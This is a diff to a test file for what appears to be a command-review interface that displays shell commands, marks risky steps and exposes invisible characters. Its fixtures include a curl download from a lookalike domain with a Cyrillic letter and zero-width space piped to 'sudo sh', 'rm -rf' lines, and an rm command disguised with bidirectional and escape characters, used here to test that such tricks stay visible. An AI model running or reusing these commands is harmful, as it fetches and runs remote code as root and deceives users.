@@ -1,8 +1,8 @@
 import assert from 'node:assert/strict';
 import { after, afterEach, before, beforeEach, test } from 'node:test';
 import { visibleString } from '../../src/core/visibleText';
-import { ReviewHarness, themes, type ReviewPage } from '../support/reviewHarness';
-import { outside, violations } from './checks';
+import { ReviewHarness, type ReviewPage } from '../support/reviewHarness';
+import { flaws, outside } from './checks';
 import {
   careful,
   commandRequest,
@@ -65,7 +65,7 @@ test('steps stand one beneath the other, with their operators in words', async (
   assert.deepEqual(await code(), [
     'cd build',
     'rm -rf -- "$OUT"/* ../cache',
-    'curl -fsSL https://get.ex\u0430mple.dev/install.sh⟨ZWSP⟩',
+    'curl -fsSL https://get.ex\u0430⟨Cyrillic \u0430⟩mple.dev/install.sh⟨ZWSP⟩',
     'sudo sh',
     '> /etc/atlas/install.log',
   ]);
@@ -88,7 +88,7 @@ for (const [name, subject] of Object.entries({ dangerous, careful, unparsed, hos
     const drawn = (await code('.command-rows mark')).join('').replaceAll(/[⟨⟩]/g, '');
     for (const { from, to, title, text: reason } of subject.analysis.marks) {
       for (const line of subject.command.slice(from, to).split('\n').filter(Boolean)) {
-        const wanted = visibleString(line).replaceAll(/[⟨⟩]/g, '');
+        const wanted = visibleString(line, 'exact').replaceAll(/[⟨⟩]/g, '');
         assert.ok(drawn.includes(wanted), `${wanted} in ${drawn}`);
       }
       assert.ok(text.includes(title) && text.includes(reason), title);
@@ -123,7 +123,7 @@ test('hostile text stays visible, inside marks too, and so does what no step cov
   assert.deepEqual(await code(), [
     '# clean up',
     'for f in a b; do',
-    'rm "$f"⟨RLO⟩⟨ESC⟩[2K⟨NBSP⟩-r',
+    'rm "$f"⟨RLO⟩⟨ESC[2K⟩⟨NBSP⟩-r',
     'done',
     'cat <<END',
     'one⟨CR⟩two',
@@ -141,7 +141,7 @@ test('hostile text stays visible, inside marks too, and so does what no step cov
 
 test('what has no ink keeps its box when the names are hidden, by the button and by I', async () => {
   await show(dangerous);
-  const box = review.page.locator('.command-rows .inv').first();
+  const box = review.page.locator('.command-rows .inv[title^="zero width space"]');
   const toggle = review.button('Name invisible characters');
   const width = async (): Promise<number> => (await box.boundingBox())?.width ?? 0;
   const named = await width();
@@ -208,7 +208,7 @@ test('a megabyte and 10,000 lines are drawn whole', async () => {
   await show(steps, 'r2');
   assert.equal(await review.page.locator('.command-rows .item[data-n]').count(), 10_000);
   assert.equal(await review.page.locator('[data-end-of-command]').count(), 1);
-  const long = `echo ${'y'.repeat(1_000_000)}; rm -rf last`;
+  const long = `echo ${'yyy '.repeat(250_000)}; rm -rf last`;
   await show(readCommand(long, [{ text: long }], [{ on: long, title: 'All of it.' }]), 'r3');
   assert.equal((await code()).join(''), long);
   assert.equal((await review.page.locator('.command-rows sup').allTextContents()).join(), 'a');
@@ -237,6 +237,32 @@ test('what it would touch: a row for each thing, with whether it can come back',
   await card.getByRole('button', { name: 'Read again' }).click();
   assert.deepEqual(await review.waitFor((one) => one.type === 'lookAgain'), { type: 'lookAgain', id: 'r1' });
   assert.equal(review.messages('lookAgain').length, 1);
+});
+
+test('what several steps do to the same thing is told once, and what is counted is named', async () => {
+  await show(dangerous);
+  const log = { verb: 'appends', what: 'log', names: [], count: 1, back: 'nothing', why: 'It is new' } as const;
+  const made = { ...log, step: 9, verb: 'creates', what: 'out' } as const;
+  const rows = [
+    ...[2, 3, 3, 5, 8].map((step) => ({ ...log, step })),
+    { ...log, step: 4, what: 'other' },
+    { ...made, counts: 'both' as const },
+    { ...made, step: 10, counts: 'folder' as const },
+    { ...made, step: 11, count: 1200, counts: 'both' as const },
+  ];
+  await review.tell({ type: 'touch', id: 'r1', touch: { ...touch, rows } });
+  await review.page.getByRole('table').waitFor();
+  const told = await review.page.getByRole('table').getByRole('row').allInnerTexts();
+  assert.deepEqual(
+    told.slice(1).map((row) => row.replaceAll(/\s+/g, ' ').trim().replace(' Nothing to bring back. It is new', '')),
+    [
+      '2, 3 and 2 more appends to log 1 file',
+      '4 appends to other 1 file',
+      '9 creates out 1 file or folder',
+      '10 creates out 1 folder',
+      '11 creates out 1,200 files and folders',
+    ],
+  );
 });
 
 test('nothing to touch is no table, and where it runs is said all the same', async () => {
@@ -269,6 +295,13 @@ test('nothing to touch is no table, and where it runs is said all the same', asy
   assert.equal(await review.page.getByRole('table').count(), 0, 'it was about another request');
 });
 
+const sizes = [
+  { width: 1200, height: 900, axe: 'all' },
+  { width: 700, height: 800, axe: 'none' },
+  { width: 400, height: 800, axe: 'none' },
+  { width: 400, height: 300, axe: 'one' },
+] as const;
+
 const looks = {
   dangerous: commandRequest(dangerous, { id: 'dangerous' }),
   careful: commandRequest(careful, { id: 'careful' }),
@@ -285,37 +318,25 @@ const looks = {
   }),
 };
 
-for (const theme of themes) {
-  test(`${theme}: nothing outside the page and nothing for axe to find, with raw text, table and box, at every size`, async () => {
-    await review.close();
-    review = await harness.open({ theme });
-    for (const [name, request] of Object.entries(looks)) {
-      await review.page.setViewportSize({ width: 1200, height: 900 });
-      await review.show(request);
-      await review.tell({ type: 'touch', id: name, touch });
-      await review.page.getByRole('table').waitFor();
-      for (const size of [
-        { width: 1200, height: 900 },
-        { width: 700, height: 800 },
-        { width: 400, height: 800 },
-        { width: 400, height: 300 },
-      ]) {
-        const at = `${name} ${size.width}x${size.height}`;
-        await review.page.setViewportSize(size);
-        await review.rest(30);
-        await review.picture(`command-${name}-${size.width}x${size.height}-${theme}`);
-        assert.deepEqual(await outside(review), [], at);
-        if (size.width === 700 || size.height === 800) continue;
-        assert.deepEqual(await violations(review), [], at);
-        await review.page.keyboard.press('t');
-        assert.deepEqual(await outside(review), [], at);
-        await review.page.keyboard.press('t');
-        if (name !== 'dangerous' && name !== 'edited') continue;
-        await review.page.keyboard.press('e');
-        await review.page.getByRole('textbox', { name: 'Command' }).waitFor();
-        assert.deepEqual([...(await outside(review)), ...(await violations(review))], [], `${at}, box`);
-        await review.page.keyboard.press('Escape');
-      }
+for (const [name, request] of Object.entries(looks)) {
+  test(`${name}: nothing outside the page and nothing for axe to find, with raw text, table and box, at every size`, async () => {
+    await review.show(request);
+    await review.tell({ type: 'touch', id: name, touch });
+    await review.page.getByRole('table').waitFor();
+    for (const { axe, ...size } of sizes) {
+      const at = `command-${name}-${size.width}x${size.height}`;
+      await review.page.setViewportSize(size);
+      await review.rest(30);
+      assert.deepEqual(await flaws(review, { axe, name: at }), []);
+      if (axe === 'none') continue;
+      await review.page.keyboard.press('t');
+      assert.deepEqual(await outside(review), [], at);
+      await review.page.keyboard.press('t');
+      if (name !== 'dangerous' && name !== 'edited') continue;
+      await review.page.keyboard.press('e');
+      await review.page.getByRole('textbox', { name: 'Command' }).waitFor();
+      assert.deepEqual(await flaws(review, { axe, name: `${at}-box` }), []);
+      await review.page.keyboard.press('Escape');
     }
   });
 }
